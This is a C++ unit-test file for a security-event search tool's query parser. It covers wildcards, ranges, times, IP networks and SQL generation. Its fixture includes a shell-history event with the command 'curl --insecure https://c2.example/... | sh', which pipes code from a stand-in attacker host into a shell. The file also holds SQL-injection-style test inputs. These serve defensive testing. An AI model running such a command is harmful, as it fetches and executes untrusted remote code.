// SPDX-License-Identifier: Apache-2.0
#include "event/query/query.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <random>

#include "base/limits.h"
#include "base/text.h"
#include "event/query/fields.h"
#include "event/query/test_support.h"

namespace ekshume::event {
namespace {

using ::testing::HasSubstr;

class QueryTest : public ::testing::Test {
 protected:
  QueryTest() {
    events_.Add("exec", {{"id", "00112233-4455-6677-8899-aabbccddeeff"},
                         {"time", "2026-03-09 23:30:00.123456789"},
                         {"source", "k8s_audit"},
                         {"namespace", "prod"},
                         {"pod", "web-7d4b9c-x2x1z"},
                         {"user_name", "system:serviceaccount:ci:deployer"},
                         {"service_account", "ci/deployer"},
                         {"source_ip", "10.1.2.3"},
                         {"user_agent", "kubectl/v1.29.0 (linux/amd64)"},
                         {"action", "create"},
                         {"object_kind", "pods/exec"},
                         {"object_name", "web-7d4b9c-x2x1z"},
                         {"outcome", "success"},
                         {"status_code", "101"},
                         {"tags", "truncated sample"},
                         {"message", "deployer executed /bin/sh -c \"id\" in prod/web"},
                         {"raw", "{\"verb\":\"create\",\"secret\":\"Zebra\"}"}});
    events_.Add("s3", {{"time", "2026-03-09 22:00:00"},
                       {"source", "cloudtrail"},
                       {"account_id", "123456789012"},
                       {"user_name", "Alice"},
                       {"user_arn", "arn:aws:iam::123456789012:user/Alice"},
                       {"access_key_id", "AKIAIOSFODNN7EXAMPLE"},
                       {"source_ip", "198.51.100.7"},
                       {"action", "GetObject"},
                       {"object_kind", "s3.amazonaws.com"},
                       {"object_name", "bucket/100%_done*?.txt"},
                       {"outcome", "failure"},
                       {"status_code", "403"},
                       {"error", "AccessDenied"},
                       {"message", "Alice called GetObject on bucket/100%_done*?.txt"}});
    events_.Add("file",
                {{"time", "2026-02-28 12:00:00"},
                 {"source", "file"},
                 {"node", "ip-10-0-0-1"},
                 {"action", "modified"},
                 {"path", "/usr/bin/it's here\\now"},
                 {"size", "4096"},
                 {"sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
                 {"tags", "deleted"},
                 {"message", "modified /usr/bin/it's here\\now"}});
    events_.Add("shell", {{"source", "shell_history"},
                          {"user_name", "root"},
                          {"process", "/bin/bash"},
                          {"pid", "-1"},
                          {"command_line", "curl --insecure https://c2.example/Ünïcode | sh"},
                          {"source_ip", "2001:db8::1"}});
  }

  std::string Find(std::string_view text) { return events_.Find(text); }

  MemoryEvents events_;
};

TEST_F(QueryTest, TheEmptyQueryFindsAll) {
  EXPECT_EQ(Find(""), "exec file s3 shell");
  EXPECT_EQ(Find("  \n\t"), "exec file s3 shell");
  EXPECT_EQ(Find("*"), "exec file s3 shell");
  EXPECT_EQ(Find("*:*"), "exec file s3 shell");
  EXPECT_EQ(Find("NOT *"), "");
}

TEST_F(QueryTest, WordsAreSearchedAnywhereInTheTexts) {
  EXPECT_EQ(Find("alice"), "s3");
  EXPECT_EQ(Find("LIC"), "s3");
  EXPECT_EQ(Find("bin"), "exec file shell");
  EXPECT_EQ(Find("AKIAIOSFODNN7EXAMPLE"), "s3");
  EXPECT_EQ(Find("e3b0c442"), "file");
  EXPECT_EQ(Find("afbf4"), "file");
  EXPECT_EQ(Find("afbf"), "") << "identifiers want a digit";
  EXPECT_EQ(Find("sha256:*afbf*"), "file");
  EXPECT_EQ(Find("198.51.100"), "s3");
  EXPECT_EQ(Find("zebra"), "") << "the raw record is searched by raw: only";
  EXPECT_EQ(Find("raw:zebra"), "exec");
  EXPECT_EQ(Find("raw:zeb?a"), "exec");
  EXPECT_EQ(Find("shell_history"), "") << "so are columns of few values by their names";
}

TEST_F(QueryTest, WhatIsPastedNeedsNoQuotes) {
  EXPECT_EQ(Find("/bin/sh"), "exec");
  EXPECT_EQ(Find("/usr/bin/it's"), "file");
  EXPECT_EQ(Find("system:serviceaccount:ci:deployer"), "exec");
  EXPECT_EQ(Find("arn:aws:iam::123456789012:user/alice"), "s3");
  EXPECT_EQ(Find("https://c2.example"), "shell");
  EXPECT_EQ(Find("2001:db8::1"), "shell");
  EXPECT_EQ(Find("--insecure"), "shell");
  EXPECT_EQ(Find("path:/usr/bin/*"), "file");
}

TEST_F(QueryTest, QuotesMakePhrases) {
  EXPECT_EQ(Find("\"called getobject\""), "s3");
  EXPECT_EQ(Find("called getobject"), "s3");
  EXPECT_EQ(Find("getobject called"), "s3");
  EXPECT_EQ(Find("\"getobject called\""), "");
  EXPECT_EQ(Find("\"sh -c \\\"id\\\"\""), "exec");
  EXPECT_EQ(Find("\"done*?\""), "s3") << "wildcards are plain in quotes";
  EXPECT_EQ(Find("\"OR\""), "");
  EXPECT_EQ(Find("\"and\""), "");
}

TEST_F(QueryTest, FieldsAreComparedAsAWholeAndIgnoreCase) {
  EXPECT_EQ(Find("user_name:alice"), "s3");
  EXPECT_EQ(Find("user_name:alic"), "");
  EXPECT_EQ(Find("USER.NAME:ALICE"), "s3");
  EXPECT_EQ(Find("user_name:\"Alice\""), "s3");
  EXPECT_EQ(Find("user_name: alice"), "s3");
  EXPECT_EQ(Find("user_arn:arn:aws:iam::123456789012:user/Alice"), "s3");
  EXPECT_EQ(Find("source_ip:2001:DB8::1"), "shell");
  EXPECT_EQ(Find("id:00112233-4455-6677-8899-AABBCCDDEEFF"), "exec");
  EXPECT_EQ(Find("id:00112233445566778899aabbccddeeff"), "exec");
  EXPECT_EQ(Find("id:(00112233445566778899aabbccddeeff OR other)"), "exec");
  EXPECT_EQ(Find("id:other"), "");
  EXPECT_EQ(Find("id:0011*"), "exec");
}

TEST_F(QueryTest, SentencesAreSearchedForWords) {
  EXPECT_EQ(Find("message:getobject"), "s3");
  EXPECT_EQ(Find("command_line:c2.example"), "shell");
  EXPECT_EQ(Find("command_line:cu?l*sh"), "shell");
  EXPECT_EQ(Find("user_agent:kubectl"), "exec");
  EXPECT_EQ(Find("command_line:ünÏCODE"), "shell") << "case of all letters, not only of ASCII's";
}

TEST_F(QueryTest, TagsAreWords) {
  EXPECT_EQ(Find("tags:sample"), "exec");
  EXPECT_EQ(Find("tags:truncated"), "exec");
  EXPECT_EQ(Find("tags:sam"), "");
  EXPECT_EQ(Find("tags:sam*"), "exec");
  EXPECT_EQ(Find("tags:*ted"), "exec file");
  EXPECT_EQ(Find("tags:t*e"), "") << "a wildcard stays inside its word";
  EXPECT_EQ(Find("tag:\"DELETED\""), "file");
}

TEST_F(QueryTest, Wildcards) {
  EXPECT_EQ(Find("user_name:*ali*"), "s3");
  EXPECT_EQ(Find("user_name:ali*"), "s3");
  EXPECT_EQ(Find("user_name:*ice"), "s3");
  EXPECT_EQ(Find("user_name:A*c?"), "s3");
  EXPECT_EQ(Find("user_name:li*"), "");
  EXPECT_EQ(Find("user_name:*lic"), "");
  EXPECT_EQ(Find("user_name:????"), "shell");
  EXPECT_EQ(Find("pod:web-*-x2x1z"), "exec");
  EXPECT_EQ(Find("object_name:bucket/100%_don?\\*\\?.txt"), "s3");
  EXPECT_EQ(Find("object_name:*100%*"), "s3");
  EXPECT_EQ(Find("object_name:*1%0*"), "") << "LIKE's own wildcards are plain";
  EXPECT_EQ(Find("object_name:b?cket/100_*"), "");
  EXPECT_EQ(Find("object_name:*done\\*\\?*"), "s3");
  EXPECT_EQ(Find("path:*here\\\\now"), "file");
  EXPECT_EQ(Find("path:?usr*here\\\\n?w"), "file");
  EXPECT_EQ(Find("getobj*buck?t"), "s3");
  EXPECT_EQ(Find("status_code:4*"), "s3");
  EXPECT_EQ(Find("status_code:?0?"), "exec s3");
}

TEST_F(QueryTest, TheDatabaseMayHaveAFunctionOfItsOwnForTexts) {
  SqlOptions options;
  options.contains = "own_contains";
  events_.Run("CREATE MACRO own_contains(a, b) AS contains(lower(a), b)");
  for (const char* query : {"GetObj", "getobj*buck?t", "user_name:*ali*", "path:*here\\\\now",
                            "user_name:????", "-getobj", "10.0.0.1", "status_code:?0?"}) {
    EXPECT_EQ(events_.Find(query, options), Find(query)) << query;
  }
  const auto sql = [&](std::string_view text) {
    return ToSql(*ParseQuery(text, MemoryEvents::kNow), options);
  };
  EXPECT_EQ(sql("user_agent:CURL"), "(own_contains(user_agent, 'curl'))");
  EXPECT_EQ(sql("pod:w*b-?"), "((own_contains(pod, 'b-') AND lower(pod) LIKE 'w%b-_'))");
  EXPECT_EQ(sql("user_agent:7"), "(contains(user_agent, '7'))") << "nothing to fold";
  EXPECT_EQ(sql("user_agent:\xc3\xa4"), "(contains(lower(user_agent), lower('\xc3\xa4')))");
}

TEST_F(QueryTest, Escapes) {
  EXPECT_EQ(Find("it's\\ here"), "file");
  EXPECT_EQ(Find("c2\\.example"), "shell");
  EXPECT_EQ(Find("\"\\\"id\\\"\""), "exec");
  EXPECT_EQ(Find("\\\"id\\\""), "exec");
  EXPECT_EQ(Find("'; DROP TABLE events"), "");
  EXPECT_EQ(Find("s\\or"), Find("\"sor\""));
  EXPECT_EQ(Find("\\or"), Find("\"or\""));
  EXPECT_EQ(Find("\\OR"), Find("\"or\""));
}

TEST_F(QueryTest, Numbers) {
  EXPECT_EQ(Find("status_code:403"), "s3");
  EXPECT_EQ(Find("status:>=400"), "s3");
  EXPECT_EQ(Find("status_code:>403"), "");
  EXPECT_EQ(Find("status_code:<403"), "exec");
  EXPECT_EQ(Find("status_code<=403"), "exec s3");
  EXPECT_EQ(Find("status_code:[101 TO 403]"), "exec s3");
  EXPECT_EQ(Find("status_code:[101 TO 403}"), "exec");
  EXPECT_EQ(Find("status_code:{101 TO 403]"), "s3");
  EXPECT_EQ(Find("status_code:{101 TO 102}"), "");
  EXPECT_EQ(Find("status_code:[* TO 200]"), "exec");
  EXPECT_EQ(Find("status_code:[200 TO *]"), "s3");
  EXPECT_EQ(Find("status_code:[* TO *]"), "exec s3");
  EXPECT_EQ(Find("status_code:(101 OR 403)"), "exec s3");
  EXPECT_EQ(Find("pid:-1"), "shell");
  EXPECT_EQ(Find("pid:[-9223372036854775808 TO 0]"), "shell");
  EXPECT_EQ(Find("pid:>9223372036854775807"), "");
  EXPECT_EQ(Find("pid:<-9223372036854775808"), "");
  EXPECT_EQ(Find("pid:9223372036854775808"), "error at 4: this number is too large (64 bits)");
  EXPECT_EQ(Find("pid:abc"), "error at 4: pid is a number");
  EXPECT_EQ(Find("pid:1.5"), "error at 4: pid is a number");
}

TEST_F(QueryTest, Times) {
  EXPECT_EQ(Find("time:2026-03-09"), "exec s3");
  EXPECT_EQ(Find("time:2026"), "exec file s3");
  EXPECT_EQ(Find("time:2026-03-09T23"), "exec");
  EXPECT_EQ(Find("time:\"2026-03-09 22:00\""), "s3");
  EXPECT_EQ(Find("time:2026-03-09T23:30:00.123456789Z"), "exec");
  EXPECT_EQ(Find("time:2026-03-09T23:30:00.123456788Z"), "");
  EXPECT_EQ(Find("time:2026-03-10T00:00:00+02:00"), "s3");
  EXPECT_EQ(Find("timestamp:[2026-02-01 TO 2026-03-09T22:30]"), "file s3");
  EXPECT_EQ(Find("time:[2026-02-28 TO 2026-02-28]"), "file");
  EXPECT_EQ(Find("time:{2026-02-28 TO 2026-03-10}"), "exec s3");
  EXPECT_EQ(Find("time:>=2026-03-09"), "exec s3");
  EXPECT_EQ(Find("time:>2026-03-09"), "");
  EXPECT_EQ(Find("time:<2026-03-09"), "file");
  EXPECT_EQ(Find("time:<=2026-03-09"), "exec file s3");
  EXPECT_EQ(Find("@timestamp:[2026 TO 9999]"), "exec file s3");
  EXPECT_EQ(Find("time:[0001 TO 2026-03-01]"), "file");
  EXPECT_EQ(Find("time:>9999"), "");
  EXPECT_EQ(Find("time:>=now-1h"), "exec");
  EXPECT_EQ(Find("time:now-1d/d"), "exec s3");
  EXPECT_EQ(Find("last:1h"), "exec");
  EXPECT_EQ(Find("last:24h"), "exec s3");
  EXPECT_EQ(Find("last:1M"), "exec file s3");
  EXPECT_EQ(Find("NOT last:24h"), "file shell");
  EXPECT_THAT(Find("time:yesterday"), HasSubstr("error at 5: a time looks like"));
  EXPECT_THAT(Find("time:2026-01-*"), HasSubstr("error at 5: write part of a date"));
  EXPECT_THAT(Find("last:24"), HasSubstr("error at 5: a span looks like"));
}

TEST_F(QueryTest, Addresses) {
  EXPECT_EQ(Find("source_ip:10.0.0.0/8"), "exec");
  EXPECT_EQ(Find("ip:198.51.100.0/28"), "s3");
  EXPECT_EQ(Find("ip:198.51.100.8/29"), "");
  EXPECT_EQ(Find("ip:0.0.0.0/0"), "exec s3");
  EXPECT_EQ(Find("ip:[10.1.2.3 TO 198.51.100.7]"), "exec s3");
  EXPECT_EQ(Find("ip:{10.1.2.3 TO 198.51.100.7}"), "");
  EXPECT_EQ(Find("ip:>10.1.2.3"), "s3");
  EXPECT_EQ(Find("ip:{255.255.255.255 TO *]"), "");
  EXPECT_EQ(Find("ip:2001:db8:*"), "shell");
  EXPECT_THAT(Find("ip:2001:db8::/32"), HasSubstr("error at 3: networks of IPv6"));
  EXPECT_THAT(Find("ip:10.0.0.0/33"), HasSubstr("error at 3: a network looks like"));
  EXPECT_THAT(Find("ip:[a TO b]"), HasSubstr("error at 4: a range of addresses"));
}

TEST_F(QueryTest, AlphabeticalRanges) {
  EXPECT_EQ(Find("user_name:[alice TO root]"), "s3 shell");
  EXPECT_EQ(Find("user_name:{Alice TO ROOT]"), "shell");
  EXPECT_EQ(Find("user_name:>=root"), "exec shell");
  EXPECT_EQ(Find("user_name:[\"a\" TO \"b\"}"), "s3");
}

TEST_F(QueryTest, ExistsAndMissing) {
  EXPECT_EQ(Find("_exists_:error"), "s3");
  EXPECT_EQ(Find("_missing_:time"), "shell");
  EXPECT_EQ(Find("error:*"), "s3");
  EXPECT_EQ(Find("NOT error:*"), "exec file shell");
  EXPECT_EQ(Find("_exists_:actor"), "exec s3 shell");
  EXPECT_EQ(Find("_missing_:actor"), "file");
  EXPECT_THAT(Find("_exists_:nothing"), HasSubstr("error at 9: there is no field"));
  EXPECT_EQ(Find("error:\"\""), "error at 6: an empty text is searched with _missing_:FIELD");
}

TEST_F(QueryTest, Operators) {
  EXPECT_EQ(Find("source:k8s_audit OR source:cloudtrail"), "exec s3");
  EXPECT_EQ(Find("source:k8s_audit || source:cloudtrail"), "exec s3");
  EXPECT_EQ(Find("bin AND modified"), "file");
  EXPECT_EQ(Find("bin && modified"), "file");
  EXPECT_EQ(Find("bin modified"), "file");
  EXPECT_EQ(Find("bin NOT modified"), "exec shell");
  EXPECT_EQ(Find("bin -modified"), "exec shell");
  EXPECT_EQ(Find("+bin !modified"), "exec shell");
  EXPECT_EQ(Find("bin AND NOT -modified"), "file");
  EXPECT_EQ(Find("-(bin OR alice)"), "");
  EXPECT_EQ(Find("-action:create"), "file s3 shell") << "a row without the field does not have it";
  EXPECT_EQ(Find("NOT (action:create OR user_name:alice)"), "file shell");
  EXPECT_EQ(Find("alice OR bin modified"), "file s3") << "AND binds more than OR";
  EXPECT_EQ(Find("(alice OR bin) modified"), "file");
  EXPECT_EQ(Find("user_name:(alice OR root)"), "s3 shell");
  EXPECT_EQ(Find("user_name:(ali* OR roo? OR bob)"), "s3 shell");
  EXPECT_EQ(Find("user_name:(* -alice)"), "exec shell");
  EXPECT_EQ(Find("message:(called bucket)"), "s3");
  EXPECT_EQ(Find("message:((called OR executed) AND NOT bucket)"), "exec");
  EXPECT_EQ(Find("user_arn:(arn:aws:iam::123456789012:user/alice OR x:y)"), "s3");
  EXPECT_EQ(Find("user_name:alice OR user_name:root OR action:create"), "exec s3 shell");
}

TEST_F(QueryTest, ListsOfManyTexts) {
  std::string list = "(\"none|such\"";
  for (int i = 0; i < 1000; ++i) list += fmt::format(" OR none{}", i);
  EXPECT_EQ(Find(list + ")"), "");
  EXPECT_EQ(Find(list + " OR C2.EXAMPLE OR \"done*?.txt\")"), "s3 shell");
  EXPECT_EQ(Find(list + " OR c2-example OR done.*)"), "") << "texts, not expressions";
  EXPECT_EQ(Find(list + " OR ünÏcode)"), "shell");
  EXPECT_EQ(Find("message:" + list + " OR getobject)"), "s3");
  EXPECT_EQ(Find("message:" + list + " OR getobject OR b?n)"), "exec file s3");
}

TEST_F(QueryTest, RegularExpressions) {
  EXPECT_EQ(Find("user_name:/^a.*e$/"), "s3");
  EXPECT_EQ(Find("user_name:/(?-i)^a/"), "");
  EXPECT_EQ(Find("path:/usr\\/bin/"), "file");
  EXPECT_EQ(Find("message:/(called|executed) /"), "exec s3");
  EXPECT_EQ(Find("/c2\\.[a-z]+/"), "shell");
  EXPECT_EQ(Find("user_name:(/^al/ OR /^ro/)"), "s3 shell");
  EXPECT_EQ(Find("id:/^0011/"), "exec");
  EXPECT_THAT(Find("user_name:/(/"), HasSubstr("error at 10: no valid regular expression"));
  EXPECT_THAT(Find("user_name:/(?=a)/"), HasSubstr("error at 10: no valid regular expression"));
  EXPECT_THAT(Find("pid:/1/"), HasSubstr("error at 4: regular expressions are for texts"));
}

TEST_F(QueryTest, AliasesOfSeveralColumns) {
  EXPECT_EQ(Find("actor:alice"), "s3");
  EXPECT_EQ(Find("actor:AKIAIOSFODNN7EXAMPLE"), "s3");
  EXPECT_EQ(Find("actor:ci/deployer"), "exec");
  EXPECT_EQ(Find("actor:(alice OR ci/deployer)"), "exec s3");
  EXPECT_EQ(Find("-actor:alice"), "exec file shell");
  EXPECT_EQ(Find("verb:create"), "exec");
  EXPECT_EQ(Find("ns:prod"), "exec");
}

TEST_F(QueryTest, FurtherValuesThatCountAsEqual) {
  SqlOptions options;
  std::vector<std::string> asked;
  options.also = [&](std::string_view field, std::string_view value) {
    asked.push_back(fmt::format("{}={}", field, value));
    return std::vector<ColumnValue>{{"service_account", "ci/deployer"}, {"no_column", "x"}};
  };
  EXPECT_EQ(events_.Find("actor:alice", options), "exec s3");
  EXPECT_EQ(events_.Find("actor:ali* user:(alice OR bob)", options), "s3");
  EXPECT_THAT(asked, ::testing::ElementsAre("actor=alice", "user_name=alice", "user_name=bob"));
}

TEST_F(QueryTest, UnknownFieldsNameSimilarOnes) {
  EXPECT_EQ(Find("alice usr_name:bob"),
            "error at 6: there is no field \"usr_name\"; similar: user_name; text with a colon in "
            "it goes in quotes");
  EXPECT_THAT(Find("useragent:x"), HasSubstr("similar: user_agent"));
  EXPECT_THAT(Find("contain:x"), HasSubstr("similar: container"));
  EXPECT_THAT(Find("qqqqqqq:x"), HasSubstr("\"; text with a colon"));
  EXPECT_THAT(Find("nginx:1.25"), HasSubstr("error at 0: there is no field \"nginx\""));
}

TEST_F(QueryTest, Mistakes) {
  EXPECT_EQ(Find("(alice"), "error at 0: this parenthesis is not closed");
  EXPECT_EQ(Find("alice)"), "error at 5: this parenthesis closes nothing");
  EXPECT_EQ(Find("()"), "error at 1: something to search for is missing here");
  EXPECT_EQ(Find("alice AND"), "error at 9: something to search for is missing here");
  EXPECT_EQ(Find("OR alice"), "error at 0: there is nothing before this operator");
  EXPECT_EQ(Find("alice OR AND bob"), "error at 9: there is nothing before this operator");
  EXPECT_EQ(Find("\"alice"), "error at 0: this quote is not closed");
  EXPECT_EQ(Find("\"alice\\"), "error at 0: this quote is not closed");
  EXPECT_EQ(Find("\"a\"b"), "error at 3: a blank is missing behind the quote");
  EXPECT_EQ(Find("ab\"c\""), "error at 2: a quote inside a word: write \\\" for the character");
  EXPECT_EQ(Find("\"\""), "error at 0: there is nothing between these quotes");
  EXPECT_EQ(Find("a\\"), "error at 1: a backslash at the end: write \\\\ for the character");
  EXPECT_EQ(Find("user_name:"), "error at 10: a value is missing behind user_name");
  EXPECT_EQ(Find("user_name: AND x"), "error at 11: a value is missing behind user_name");
  EXPECT_EQ(Find("a or b"), "error at 2: write OR for the operator, \"or\" for the word");
  EXPECT_EQ(Find("user_name:(a and b)"),
            "error at 13: write AND for the operator, \"and\" for the word");
  EXPECT_EQ(Find("a - b"), "error at 2: - stands before a word; in quotes it is text");
  EXPECT_EQ(Find("size:[1 10]"), "error at 8: TO is missing here");
  EXPECT_EQ(Find("size:[1 TO 10"), "error at 5: this range is not closed");
  EXPECT_EQ(Find("size:[1 TO 10]x"), "error at 14: a blank is missing behind the range");
  EXPECT_EQ(Find("user_name:\xE2\x80\x9Cx\xE2\x80\x9D"),
            "error at 10: this quote is not a plain \"");
  EXPECT_EQ(Find("abc\xFF"), "error at 3: this is not UTF-8");
  EXPECT_EQ(Find(std::string_view("abc\0d", 5)),
            "error at 3: there is a NUL character in the query");
}

TEST_F(QueryTest, DepthIsLimited) {
  const auto nested = [](int depth) {
    return std::string(static_cast<size_t>(depth), '(') + "alice" +
           std::string(static_cast<size_t>(depth), ')');
  };
  EXPECT_EQ(Find(nested(limits::kMaxQueryDepth)), "s3");
  EXPECT_EQ(Find(nested(limits::kMaxQueryDepth + 1)),
            "error at 64: more than 64 parentheses in each other");
  EXPECT_EQ(Find("user_name:" + nested(limits::kMaxQueryDepth + 1)),
            "error at 74: more than 64 parentheses in each other");
  std::string negations;
  for (int i = 0; i < 64; ++i) negations += "NOT (";
  EXPECT_EQ(Find(negations + "alice" + std::string(64, ')')), "s3");
}

TEST_F(QueryTest, LengthAndTermsAreLimited) {
  std::string names = "user_name:(alice";
  for (size_t i = 1; i < limits::kMaxQueryTerms; ++i) names += " OR x";
  EXPECT_EQ(Find(names + ")"), "s3");
  EXPECT_THAT(Find(names + " OR y)"), HasSubstr("more than 4096 terms"));
  const std::string longest(limits::kMaxQueryBytes, 'a');
  EXPECT_EQ(Find(longest), "");
  EXPECT_EQ(Find(longest + "a"), "error at 65536: the query is longer than 64.0 KiB");
}

// Whatever is typed: it is refused, or the database understands what became of it.
TEST_F(QueryTest, WhatParsesRuns) {
  constexpr std::string_view kPieces[] = {
      "alice",  "user_name:", "time:", "pid:",  "ip:", "tags:",   "id:",  "raw:",     "(",
      ")",      " OR ",       " AND ", " NOT ", " ",   " ",       " ",    "\"",       "\\",
      "'",      "*",          "?",     "/",     "[",   "{",       " TO ", "]",        "}",
      "2026",   "-01",        "now-1", "d",     "/d",  ">=",      "<",    "-",        "+",
      "!",      "_exists_:",  ";--",   "%",     "_",   "10.0.0.", "0/8",  "\xC3\xA9", "''",
      "actor:", "last:",      "1h",    "::",    "$1",  "E'",      "$$",   "\n",       "5"};
  std::mt19937 random(7);
  int ran = 0;
  for (int i = 0; i < 1500; ++i) {
    std::string text;
    for (size_t piece = 0, count = 1 + random() % 9; piece < count; ++piece) {
      text += kPieces[random() % std::size(kPieces)];
    }
    const auto query = ParseQuery(text, MemoryEvents::kNow);
    if (!query) {
      EXPECT_LE(query.error().offset, text.size()) << text;
      EXPECT_FALSE(query.error().message.empty()) << text;
      continue;
    }
    ++ran;
    const std::string condition = ToSql(*query);
    events_.Run("SELECT count(*) FROM events WHERE " + condition);
    if (HasFailure()) FAIL() << text;
  }
  EXPECT_GT(ran, 200);
  EXPECT_EQ(events_.Run("SELECT count(*) FROM events"), "4");
}

TEST(DocumentationTest, NamesEveryAliasAndEveryColumnThatIsSearched) {
  std::ifstream stream(EKSHUME_SOURCE_DIR "/docs/search.md");
  const std::string page{std::istreambuf_iterator<char>(stream), {}};
  for (const FieldAlias& alias : FieldAliases()) {
    EXPECT_THAT(page, HasSubstr(fmt::format("`{}`", alias.alias)));
    for (const std::string_view column : SplitNonEmpty(alias.columns, ' ')) {
      EXPECT_NE(FindColumn(column), nullptr) << column;
    }
  }
  const std::string words = page.substr(page.find("## Words"), page.find("Not in the record"));
  for (const auto& columns : {FreeTextColumns(), IdentifierColumns()}) {
    for (const std::string_view column : columns) {
      EXPECT_THAT(words, HasSubstr(fmt::format("`{}`", column)));
      EXPECT_NE(FindColumn(column), nullptr) << column;
    }
  }
}

TEST(DescribeQueryErrorTest, PutsACaretBelowTheCharacter) {
  const auto describe = [](std::string_view text) {
    const auto query = ParseQuery(text, MemoryEvents::kNow);
    return query ? "" : DescribeQueryError(text, query.error());
  };
  EXPECT_EQ(describe("é AND pid:x"),
            "pid is a number\n"
            "  é AND pid:x\n"
            "            ^");
  EXPECT_EQ(describe("\x1b[31m pid:x"),
            "pid is a number\n"
            "  \\x1b[31m pid:x\n"
            "               ^");
  const std::string described =
      describe(std::string(1000, 'a') + " pid:x " + std::string(900, 'b'));
  EXPECT_THAT(described, HasSubstr("  ...aaa"));
  EXPECT_THAT(described, HasSubstr("bbb...\n"));
  EXPECT_LT(described.size(), 300);
}

}  // namespace
}  // namespace ekshume::event
